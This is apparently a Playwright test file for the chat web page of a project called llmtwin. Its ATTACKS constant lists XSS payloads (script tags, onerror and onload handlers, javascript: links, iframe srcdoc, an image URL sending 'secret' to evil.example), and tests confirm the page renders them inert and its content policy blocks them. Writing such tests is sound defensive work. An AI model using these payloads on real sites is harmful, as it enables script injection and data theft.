"""The chat page as a reader uses it."""

from __future__ import annotations

import re
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from playwright.sync_api import expect
from tests.documents import AUTHOR
from tests.integration.serving.chat.conftest import ARTICLE, Open
from tests.integration.serving.gateway.conftest import Gateway, ScriptedVllm, Serve

from llmtwin.keys import KeyFile
from llmtwin.traces import Thumbs, TraceStore

if TYPE_CHECKING:
    from playwright.sync_api import Locator, Page

pytestmark = pytest.mark.stack

# What a model may be made to write, each a way into a page that reads it as HTML or follows any link.
ATTACKS = """<img src=x onerror="document.title='pwned'"><script>document.title='pwned'</script>

[click](javascript:document.title='pwned') [or](JaVaScRiPt&colon;alert(1)) [data](data:text/html,<b>)

![pixel](https://evil.example/?said=secret) <svg onload=alert(1)> <a href="javascript:alert(1)">a</a>

```html"><img src=x onerror=alert(1)>
<iframe srcdoc="<script>parent.document.title='pwned'</script>">
```
| <style>body{display:none}</style> |
|---|
| <b onmouseover=alert(1)>b</b> |

[relative](/v1/models) <https://good.example/> [1] __proto__"""


def ask(page: Page, text: str = "Why do queues matter?") -> None:
    page.fill("#question", text)
    page.keyboard.press("Enter")


def answer_of(page: Page) -> Locator:
    return page.locator(".answer").last


def finished(page: Page) -> Locator:
    expect(answer_of(page)).not_to_have_attribute("aria-busy", "true")
    return answer_of(page)


def last_body(vllm: ScriptedVllm) -> dict[str, Any]:
    body: dict[str, Any] = vllm.seen[-1]["body"]
    return body


def test_an_answer_grows_while_it_is_written(gateway: Gateway, vllm: ScriptedVllm, open_page: Open) -> None:
    vllm.script(tokens=400, interval=0.02)
    page = open_page(gateway)
    ask(page)
    lengths = []
    for _ in range(3):
        before = lengths[-1] if lengths else 0
        page.wait_for_function("(before) => document.querySelector('.prose')?.textContent.length > before", arg=before)
        lengths.append(len(answer_of(page).locator(".prose").inner_text()))
    assert answer_of(page).get_attribute("aria-busy") == "true"
    assert vllm.seen[-1]["ended"] is None
    page.keyboard.press("Escape")
    expect(page.locator(".note", has_text="Stopped.")).to_be_visible()


@pytest.mark.parametrize("by", ["button", "key"])
def test_stopping_ends_the_work_upstream_and_keeps_what_came(
    gateway: Gateway, vllm: ScriptedVllm, open_page: Open, by: str
) -> None:
    vllm.script(tokens=2_000, interval=0.02)
    page = open_page(gateway)
    ask(page)
    expect(answer_of(page).locator(".prose")).to_contain_text("word word")
    page.click("#stop") if by == "button" else page.keyboard.press("Escape")
    seen = vllm.wait_until(lambda seen: seen[-1]["ended"] is not None)
    assert seen[-1]["ended"] == "cancelled"
    assert seen[-1]["sent"] < 2_000
    expect(finished(page)).to_contain_text("Stopped.")
    expect(answer_of(page).locator(".prose")).to_contain_text("word word")
    expect(page.locator("#send")).to_be_visible()


def test_a_conversation_goes_on_and_a_new_one_forgets(gateway: Gateway, vllm: ScriptedVllm, open_page: Open) -> None:
    page = open_page(gateway)
    ask(page, "First?")
    finished(page)
    ask(page, "Second?")
    expect(page.locator(".answer")).to_have_count(2)
    finished(page)
    told = [(message["role"], message["content"]) for message in last_body(vllm)["messages"]]
    assert told[-3:] == [("user", "First?"), ("assistant", "word word word word word"), ("user", "Second?")]
    page.click("#new")
    expect(page.get_by_role("heading", name="Ask the twin")).to_be_visible()
    page.get_by_role("button", name="Show me a piece of your code").click()
    finished(page)
    assert "First?" not in str(last_body(vllm)["messages"])


def test_citations_lead_to_their_places_and_show_their_passages(
    filled: Gateway, vllm: ScriptedVllm, open_page: Open
) -> None:
    vllm.script(tokens=1, text="Order matters [1], as ever [9].")
    page = open_page(filled)
    ask(page, "Why do queues keep order?")
    sources = finished(page).locator(".sources li")
    expect(sources).to_have_count(3)
    cited = sources.filter(has_text="Why queues keep order")
    assert cited.get_by_role("link").get_attribute("href") == "https://example.org/articles/0"
    assert cited.get_by_role("link").get_attribute("rel") == "noopener noreferrer nofollow"
    expect(cited).to_contain_text(AUTHOR.full_name)
    expect(cited).to_contain_text(re.compile(r"score [\d.]+"))
    expect(cited.locator(".passage")).to_be_hidden()
    cited.locator("summary").click()
    assert cited.locator(".passage").inner_text() == ARTICLE
    code = sources.filter(has_text="file_0.py")
    expect(code.locator(".path")).to_have_text("file_0.py:1–4")
    assert str(code.get_by_role("link").get_attribute("href")).endswith("/file_0.py#L1-L4")
    # [1] leads down to its source; there is no ninth one, so [9] stays what it is.
    reference = answer_of(page).locator(".prose a")
    expect(reference).to_have_count(1)
    expect(answer_of(page).locator(".prose")).to_contain_text("as ever [9].")
    reference.click()
    assert page.evaluate("location.hash") == "#source-1-1"
    expect(page.locator("#source-1-1")).to_be_in_viewport()


def test_filters_are_sent_and_a_switch_turns_the_lookup_off(
    filled: Gateway, vllm: ScriptedVllm, open_page: Open
) -> None:
    page = open_page(filled)
    sent = []
    page.on("request", lambda request: sent.append(request) if request.url.endswith("/chat/completions") else None)
    ask(page)
    finished(page)
    assert sent[-1].post_data_json["rag"] == {}
    page.get_by_label(AUTHOR.full_name).check()
    page.get_by_label("Posts").check()
    ask(page)
    finished(page)
    assert sent[-1].post_data_json["rag"] == {"authors": [str(AUTHOR.id)], "kinds": ["post"]}
    expect(answer_of(page).locator(".sources li")).to_have_count(1)
    page.get_by_role("switch").uncheck()
    ask(page)
    finished(page)
    assert sent[-1].post_data_json["rag"] is False
    expect(answer_of(page).locator(".sources")).to_have_count(0)
    assert [message["role"] for message in last_body(vllm)["messages"]].count("system") == 0


def test_the_model_is_chosen_from_the_list(gateway: Gateway, vllm: ScriptedVllm, open_page: Open) -> None:
    page = open_page(gateway)
    assert page.locator("#model option").all_inner_texts() == ["twin (base)", "base"]
    page.select_option("#model", "base")
    expect(page.get_by_role("switch")).not_to_be_checked()
    ask(page)
    finished(page)
    assert last_body(vllm)["model"] == "base"


def test_an_error_is_shown_in_words_and_can_be_tried_again(
    gateway: Gateway, vllm: ScriptedVllm, open_page: Open
) -> None:
    vllm.script(status=500)
    page = open_page(gateway)
    ask(page)
    alert = page.get_by_role("alert")
    expect(alert).to_contain_text("The model failed: the script says so.")
    vllm.script()
    alert.get_by_role("button", name="Try again").click()
    expect(finished(page)).to_contain_text("word word")
    expect(page.get_by_role("alert")).to_have_count(0)
    roles = [message["role"] for message in last_body(vllm)["messages"]]
    assert roles.count("user") == 1


def test_an_answer_that_breaks_off_says_so(gateway: Gateway, vllm: ScriptedVllm, open_page: Open) -> None:
    vllm.script(tokens=50, interval=0.05, cut_after=7)
    page = open_page(gateway)
    ask(page)
    expect(page.get_by_role("alert")).to_contain_text("broke off in the middle")
    expect(answer_of(page)).to_contain_text("The answer is not complete.")
    expect(answer_of(page).locator(".prose")).to_contain_text("word word")


def test_a_gateway_that_is_gone_says_so(gateway: Gateway, open_page: Open) -> None:
    page = open_page(gateway)
    page.context.set_offline(True)
    ask(page)
    expect(page.get_by_role("alert")).to_contain_text("The gateway does not answer.")


def test_what_a_model_writes_is_shown_and_never_run(gateway: Gateway, vllm: ScriptedVllm, open_page: Open) -> None:
    vllm.script(tokens=1, text=ATTACKS)
    page = open_page(gateway)
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: asked.append(dialog.message))
    ask(page, "<img src=x onerror=alert(1)>")
    prose = finished(page).locator(".prose")
    expect(prose).to_contain_text("<img src=x onerror=\"document.title='pwned'\">")
    expect(page.locator(".question .text")).to_have_text("<img src=x onerror=alert(1)>")
    prose.locator("a").first.hover()
    assert page.title() == "llmtwin"
    assert page.locator(".turn :is(img, script, iframe, svg:not(.tools svg), style, object, form)").count() == 0
    links = prose.locator("a").evaluate_all("links => links.map(link => link.href)")
    assert sorted(links) == ["https://evil.example/?said=secret", "https://good.example/"]
    assert prose.evaluate(
        "e => [...e.querySelectorAll('*')].flatMap(e => e.getAttributeNames())"
    ) and not prose.evaluate(
        "e => [...e.querySelectorAll('*')].flatMap(e => e.getAttributeNames()).filter(name => name.startsWith('on'))"
    )
    assert {url for url in asked if not url.startswith(gateway.url)} == set()


def test_the_policy_stops_what_would_get_through(gateway: Gateway, chromium: Any) -> None:
    """The second wall: even a page that did set HTML from a string would run and load nothing."""
    page = chromium.new_page()
    try:
        page.goto(gateway.url)
        for attempt in ("document.body.innerHTML = '<b>'", "document.body.setAttribute('onclick', 'alert(1)')"):
            refused = page.evaluate(f"() => {{ try {{ {attempt} }} catch (error) {{ return error.name }} }}")
            assert refused == "TypeError", attempt
        loaded = "new Promise(done => Object.assign(new Image(), {src: 'https://evil.example/x.png', onerror: done}))"
        violation = "new Promise(done => addEventListener('securitypolicyviolation', done, {once: true}))"
        told = f"() => {{ const told = {violation}; {loaded}; return told.then(event => event.effectiveDirective) }}"
        assert page.evaluate(told) == "img-src"
        assert page.evaluate("fetch('https://evil.example/').then(() => 'sent', () => 'refused')") == "refused"
    finally:
        page.close()


def test_markdown_is_drawn(gateway: Gateway, vllm: ScriptedVllm, open_page: Open) -> None:
    text = (
        "# Order\n\nA *queue* is **fair**, `fifo`.\n\n1. one\n2. two\n   - inner\n\n> quoted\n\n"
        "```python\nif a < b & c:\n    pass\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nhttps://example.org/x "
        "~~no~~\n\n---\n"
    )
    vllm.script(tokens=1, text=text)
    page = open_page(gateway)
    ask(page)
    prose = finished(page).locator(".prose")
    expect(prose.locator("h3")).to_have_text("Order")  # the page's own headings are above it
    for selector in ("em", "strong", "p > code", "ol > li ul > li", "blockquote", "hr", "s", "td"):
        assert prose.locator(selector).count(), selector
    assert prose.locator("pre code").inner_text() == "if a < b & c:\n    pass\n"
    expect(prose.get_by_role("link")).to_have_attribute("href", "https://example.org/x")


def test_thumbs_and_a_better_text_reach_the_store(gateway: Gateway, open_page: Open) -> None:
    page = open_page(gateway)
    ask(page)
    answer = finished(page)
    answer.get_by_role("button", name="Good answer").click()
    expect(answer).to_contain_text("Thank you.")
    expect(answer.get_by_role("button", name="Good answer")).to_have_attribute("aria-pressed", "true")
    answer.get_by_role("button", name="Correct").click()
    form = answer.locator("form")
    assert form.get_by_role("textbox").input_value() == "word word word word word"
    form.get_by_role("textbox").fill("Better words.")
    form.get_by_role("button", name="Send").click()
    expect(answer).to_contain_text("your text is kept")
    expect(answer.get_by_role("button", name="Bad answer")).to_have_attribute("aria-pressed", "true")
    judged = next(TraceStore(gateway.settings).newest_first())
    assert [(one.thumbs, one.corrected_text) for one in judged.feedback] == [(Thumbs.DOWN, "Better words.")]


def test_without_a_trace_nothing_can_be_judged(serve: Serve, open_page: Open) -> None:
    page = open_page(serve(trace_sample=0.0))
    ask(page)
    expect(finished(page)).to_contain_text("word")
    expect(answer_of(page).get_by_role("button", name="Good answer")).to_have_count(0)


def test_a_key_is_asked_for_and_kept_in_the_tab_only(
    serve: Serve, vllm: ScriptedVllm, chromium: Any, tmp_path: Path
) -> None:
    gateway = serve()
    key = KeyFile(gateway.settings.gateway_keys).add("jane")
    page = chromium.new_page()
    try:
        page.goto(gateway.url)
        field = page.get_by_label("API key")
        expect(field).to_be_focused()
        field.fill("wrong")
        page.keyboard.press("Enter")
        page.wait_for_function("sessionStorage.length === 1")
        expect(field).to_be_focused()
        field.fill(key)
        page.keyboard.press("Enter")
        page.wait_for_selector("#model option", state="attached")
        ask(page)
        expect(finished(page)).to_contain_text("word")
        assert page.evaluate("Object.values(sessionStorage)") == [key]
        assert key not in page.evaluate("JSON.stringify(localStorage) + document.cookie + location.href")
    finally:
        page.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_at_the_width_of_a_phone_nothing_is_cut_off(
    filled: Gateway, vllm: ScriptedVllm, open_page: Open, scheme: str
) -> None:
    wide = "`" + "x" * 200 + "`\n\n```\n" + "y" * 200 + "\n```\n\n" + "z" * 200
    vllm.script(tokens=1, text=wide)
    page = open_page(filled, width=360, height=740, color_scheme=scheme)
    assert page.evaluate("document.documentElement.dataset.theme") == scheme
    ask(page, "w" * 200)
    finished(page).locator("summary").first.click()
    widths = page.evaluate(
        "() => [document.documentElement.scrollWidth, document.querySelector('#conversation').scrollWidth]"
    )
    assert widths[0] == 360
    assert widths[1] <= 360
    page.get_by_role("button", name="Sources").click()
    expect(page.get_by_label(AUTHOR.full_name)).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.get_by_label(AUTHOR.full_name)).to_be_hidden()
    expect(page.locator("#send")).to_be_in_viewport()


@pytest.mark.parametrize("width", [1200, 390])
def test_a_conversation_stands_right_above_where_it_is_written(
    gateway: Gateway, vllm: ScriptedVllm, open_page: Open, width: int
) -> None:
    vllm.script(tokens=1, text="A paragraph.\n\n" * 60)
    page = open_page(gateway, width=width)
    ask(page)
    finished(page)
    turn, composer = (page.locator(name).bounding_box() for name in (".answer", ".composer"))
    assert turn is not None
    assert composer is not None
    assert turn["x"] >= composer["x"] - 1
    if width == 1200:
        assert turn["x"] + turn["width"] / 2 == pytest.approx(composer["x"] + composer["width"] / 2, abs=1)


def test_all_of_it_works_from_the_keyboard(filled: Gateway, open_page: Open) -> None:
    page = open_page(filled)
    expect(page.locator("#question")).to_be_focused()
    page.keyboard.type("one")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("two")
    assert page.input_value("#question") == "one\ntwo"
    page.keyboard.press("Enter")
    finished(page)
    assert page.locator(".question .text").inner_text() == "one\ntwo"
    reached = set()
    page.locator("#question").focus()
    for _ in range(30):
        page.keyboard.press("Shift+Tab")
        reached.add(page.evaluate("(e => e.id || e.name || e.title || e.tagName)(document.activeElement)"))
    assert {"model", "new", "theme", "rag", "authors", "kinds", "Good answer", "Bad answer", "SUMMARY"} <= reached


def test_everything_has_a_name(filled: Gateway, open_page: Open) -> None:
    """What Chromium tells screen readers: no control without a name, one heading at the top, a log that is polite."""
    page = open_page(filled)
    ask(page)
    finished(page)
    controls = page.locator(":is(button, a, input, select, textarea, summary):visible")
    for control in controls.all():
        snapshot = control.aria_snapshot()
        assert re.search(r'"[^"]+"|: .+', snapshot), f"{control.evaluate('e => e.outerHTML')} is called {snapshot}"
    assert page.get_by_role("log").get_attribute("aria-live") == "polite"


def test_two_tabs_do_not_share_a_conversation(gateway: Gateway, vllm: ScriptedVllm, open_page: Open) -> None:
    first, second = open_page(gateway), open_page(gateway)
    ask(first, "Mine?")
    finished(first)
    ask(second, "Yours?")
    finished(second)
    assert "Mine?" not in str(last_body(vllm)["messages"])
